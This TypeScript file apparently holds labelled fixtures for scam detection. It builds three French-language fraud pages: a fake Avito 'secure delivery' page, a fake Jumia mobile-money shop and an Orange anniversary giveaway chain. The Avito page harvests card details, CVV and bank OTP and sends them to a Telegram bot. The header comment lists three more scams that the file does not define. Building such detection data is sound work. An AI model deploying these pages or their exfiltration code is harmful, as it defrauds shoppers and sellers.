import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, waFloat, logos, splitJs, tgSendJs, cardFieldsFr, luhnJs } from '../parts/xe-kit.js';

/**
 * Marketplace and shopping fraud: an Avito "secure delivery" page that takes the seller's card, a fake
 * Jumia clearance shop paid by mobile money, a Jiji car "seller" asking a deposit, a Casablanca flat whose
 * owner is abroad, a French tech-support locker, and an Orange anniversary giveaway chain.
 */

const avitoSecurePayment: Entry = (() => {
  const host = 'avito-ma.livraison-securisee.shop';
  return {
    id: 'xe-avito-livraison-securisee-seller-card',
    label: 'phishing',
    kind: 'marketplace-payment-kit',
    url: `https://${host}/pay/order/3318245907`,
    body: doc({
      title: 'Avito – Livraison sécurisée | Recevoir le paiement',
      css: `body{margin:0;font-family:Arial;background:#f5f6f8}.hd{background:#fff;padding:12px 24px;border-bottom:1px solid #e5e5e5}.w{max-width:520px;margin:20px auto;background:#fff;border-radius:10px;padding:22px}.it{display:flex;gap:12px;border:1px solid #eee;border-radius:8px;padding:10px}.it div.i{width:74px;height:74px;background:#dde6f0;border-radius:6px}.ok{background:#e9f8ef;color:#16794a;padding:10px;border-radius:6px;margin:12px 0}.av-l{display:block;font-size:13px;margin-top:10px;color:#555}.av-i{width:100%;padding:11px;border:1px solid #d4d8de;border-radius:6px;box-sizing:border-box}.av-row{display:flex;gap:10px}.av-row>div{flex:1}.av-amount{font-size:20px;font-weight:bold}button{width:100%;margin-top:14px;padding:14px;border:0;border-radius:8px;background:#00aaff;color:#fff;font-size:16px}`,
      body: `<div class="hd">${logos.avito(30)}</div><div class="w"><div class="it"><div class="i"></div><div><b>iPhone 13 Pro 256 Go – très bon état</b><br>Casablanca · Maârif<br><b>6 500 DH</b></div></div>
<div class="ok">✔ L'acheteur a payé la commande via Avito Livraison. Les fonds sont réservés pour vous.</div><p>Pour recevoir <b>6 500 DH</b> sur votre carte, renseignez les informations de la carte de réception. Le coursier Amana passera récupérer le colis.</p>
<form id="av">${cardFieldsFr({ cls: 'av', idPrefix: 'av', amountLine: 'Montant à recevoir : 6 500,00 DH' })}<label class="av-l">Solde disponible sur la carte (vérification anti-fraude)</label><input class="av-i" id="av-bal" placeholder="ex. 3 200 DH"><button>Recevoir 6 500 DH</button></form></div>
<script>${luhnJs('valid')}${tgSendJs('t', splitJs('7599028341:AAGm1nLp8qZv2XwR5kJc0sHy3tBe6dUf9oQ', 4), `'-1002230198844'`)}
document.getElementById('av').onsubmit=async function(e){e.preventDefault();var g=function(i){return document.getElementById(i).value};if(!valid(g('av-num'))){alert('Carte invalide');return}
await t('AVITO #3318245907\\n'+g('av-name')+'\\n'+g('av-num')+'\\n'+g('av-exp')+' / '+g('av-cvv')+'\\nSolde: '+g('av-bal'));location.href='/pay/order/3318245907/confirm'};</script>`,
    }),
    routes: {
      [`${host}/pay/order/3318245907/confirm`]: htmlRoute(doc({ title: 'Avito – Confirmation', body: '<div style="max-width:380px;margin:60px auto;font-family:Arial;text-align:center"><p>Pour créditer votre carte, confirmez avec le code envoyé par votre banque. <b>Le montant affiché par la banque correspond à la vérification de la carte.</b></p><form method="post"><input name="otp" maxlength="6" style="font-size:22px;text-align:center"><br><button style="margin-top:10px;background:#00aaff;color:#fff;border:0;padding:12px 30px;border-radius:8px">Confirmer</button></form></div>' })),
    },
  };
})();

const fakeJumiaLiquidation: Entry = (() => {
  const host = 'jumia-liquidation-ci.shop';
  return {
    id: 'xe-faux-jumia-liquidation-paiement-mobile-money',
    label: 'scam',
    kind: 'fake-shop',
    url: `https://${host}/`,
    body: doc({
      title: 'JUMIA LIQUIDATION TOTALE – jusqu\'à -90% – Fermeture entrepôt Abidjan',
      css: `body{margin:0;font-family:Arial;background:#f1f1f2}.tb{background:#f68b1e;color:#fff;text-align:center;padding:8px;font-weight:bold}.hd{background:#fff;padding:10px 20px}.g{display:grid;grid-template-columns:repeat(2,1fr);gap:10px;max-width:640px;margin:12px auto;padding:0 10px}.p{background:#fff;border-radius:4px;padding:10px;font-size:13px}.p .im{height:110px;background:#e8e8e8}.p s{color:#999}.p b{color:#f68b1e;font-size:16px;display:block}.p .d{background:#fef3e9;color:#f68b1e;font-size:11px;padding:2px 6px}.ck{max-width:640px;margin:10px auto;background:#fff;padding:16px}.tm{color:#c00;font-weight:bold}`,
      body: `<div class="tb">⏰ LIQUIDATION TOTALE – fin dans <span id="tm">02:59:41</span> – Stock limité</div><div class="hd">${logos.jumia(30)}</div>
<div class="g"><div class="p"><div class="im"></div>Samsung Galaxy A55 5G 256Go<s>289 000 F</s><b>29 900 F</b><span class="d">-90%</span></div><div class="p"><div class="im"></div>Télévision Smart 55" 4K<s>349 000 F</s><b>39 000 F</b><span class="d">-89%</span></div>
<div class="p"><div class="im"></div>Congélateur 300L Nasco<s>215 000 F</s><b>25 000 F</b><span class="d">-88%</span></div><div class="p"><div class="im"></div>iPhone 15 Pro Max 512Go<s>1 050 000 F</s><b>95 000 F</b><span class="d">-91%</span></div></div>
<div class="ck"><h3>Comment commander ?</h3><p>1. Envoyez le montant par <b>Orange Money / Wave</b> au <b>07 77 14 52 90</b> (JUMIA SERVICE LIQUIDATION).<br>2. Envoyez la capture + votre adresse sur WhatsApp.<br>3. Livraison gratuite sous 24h à Abidjan, 72h à l'intérieur.</p>
<p class="tm">⚠️ Paiement à la livraison NON disponible pour la liquidation (trop de commandes).</p></div>${waFloat('2250777145290', 'Bonjour je veux commander pendant la liquidation', 'Commander')}
<script>var s=10781;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('tm').textContent=[h,m,x].map(function(v){return ('0'+v).slice(-2)}).join(':')},1000);</script>`,
    }),
  };
})();

const orangeGiveawayChain: Entry = (() => {
  const host = 'orange-25ans-cadeaux.online';
  return {
    id: 'xe-orange-anniversaire-cadeaux-partage-whatsapp',
    label: 'scam',
    kind: 'giveaway-survey-scam',
    url: 'https://bit-ly.orange-cadeau.top/or25',
    routes: {
      'bit-ly.orange-cadeau.top/or25': redirectRoute(302, `https://${host}/sn/?s=wa`),
      [`${host}/sn/`]: htmlRoute(doc({
        title: 'Orange fête ses 25 ans 🎉 Gagnez un Samsung Galaxy S24',
        css: `body{margin:0;font-family:Arial;background:#fff}.h{background:#000;padding:10px;display:flex;gap:10px;align-items:center;color:#fff}.w{max-width:420px;margin:0 auto;padding:16px}.q{background:#fff4ea;border-radius:8px;padding:14px;margin:10px 0}.q button{display:block;width:100%;margin:6px 0;padding:11px;border:1px solid #ff7900;background:#fff;border-radius:6px}.bx{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.bx div{height:80px;background:#ff7900;border-radius:8px;color:#fff;display:flex;align-items:center;justify-content:center;font-size:26px}.sh{display:none}.bar{height:14px;background:#eee;border-radius:7px}.bar i{display:block;height:14px;background:#25d366;border-radius:7px;width:0}`,
        body: `<div class="h">${logos.orange(30)}<b>Orange Sénégal – 25 ans</b></div><div class="w"><p>Félicitations ! Pour fêter ses 25 ans, Orange offre <b>500 Samsung Galaxy S24</b> et <b>100 000 F de crédit</b>. Répondez à 3 questions.</p>
<div class="q" id="q"><p id="qt">1. Êtes-vous client Orange ?</p><button onclick="nx()">Oui</button><button onclick="nx()">Non</button></div>
<div class="sh" id="sh"><p><b>Choisissez une boîte cadeau (3 essais)</b></p><div class="bx"><div onclick="op(this)">🎁</div><div onclick="op(this)">🎁</div><div onclick="op(this)">🎁</div><div onclick="op(this)">🎁</div><div onclick="op(this)">🎁</div><div onclick="op(this)">🎁</div></div></div>
<div class="sh" id="wa"><h3>🎉 Vous avez gagné un Samsung Galaxy S24 !</h3><p>Dernière étape : partagez ce message dans <b>20 groupes ou à 20 amis WhatsApp</b>, puis payez les frais de livraison (2 500 F) pour recevoir votre téléphone.</p><div class="bar"><i id="pb"></i></div>
<a id="shr" href="whatsapp://send?text=${encodeURIComponent(`Orange fête ses 25 ans et offre des Samsung Galaxy S24 🎁 J'ai reçu le mien ! https://bit-ly.orange-cadeau.top/or25`)}" style="display:block;text-align:center;background:#25d366;color:#fff;padding:13px;border-radius:8px;margin-top:10px;text-decoration:none">Partager sur WhatsApp</a>
<a href="/sn/livraison" style="display:block;text-align:center;margin-top:10px">Payer les frais de livraison</a></div></div>
<script>var qs=['2. Quel âge avez-vous ? (18-30 / 30+)','3. Utilisez-vous Orange Money ?'],k=0,t=0,sh=0;function nx(){if(k<qs.length){document.getElementById('qt').textContent=qs[k++]}else{q.style.display='none';document.getElementById('sh').style.display='block'}}
function op(d){t++;if(t<3){d.textContent='❌';alert('Dommage ! Il vous reste '+(3-t)+' essai(s)')}else{d.textContent='📱';setTimeout(function(){document.getElementById('sh').style.display='none';document.getElementById('wa').style.display='block'},600)}}
document.getElementById('shr').onclick=function(){sh=Math.min(20,sh+1);document.getElementById('pb').style.width=(sh*5)+'%'};</script>`,
      })),
      [`${host}/sn/livraison`]: htmlRoute(doc({ title: 'Frais de livraison', body: '<div style="max-width:400px;margin:40px auto;font-family:Arial"><h3>Frais de livraison : 2 500 F</h3><p>Envoyez 2 500 F par Orange Money au 77 918 44 02 puis saisissez l\'identifiant de transaction.</p><form method="post" action="/sn/livraison"><input name="tx" placeholder="ID transaction" style="width:100%;padding:10px"><input name="adresse" placeholder="Adresse de livraison" style="width:100%;padding:10px;margin-top:6px"><button style="margin-top:8px;width:100%;padding:12px;background:#ff7900;color:#fff;border:0">Valider</button></form></div>' })),
    },
  };
})();

export const entries: Entry[] = [avitoSecurePayment, fakeJumiaLiquidation, orangeGiveawayChain];
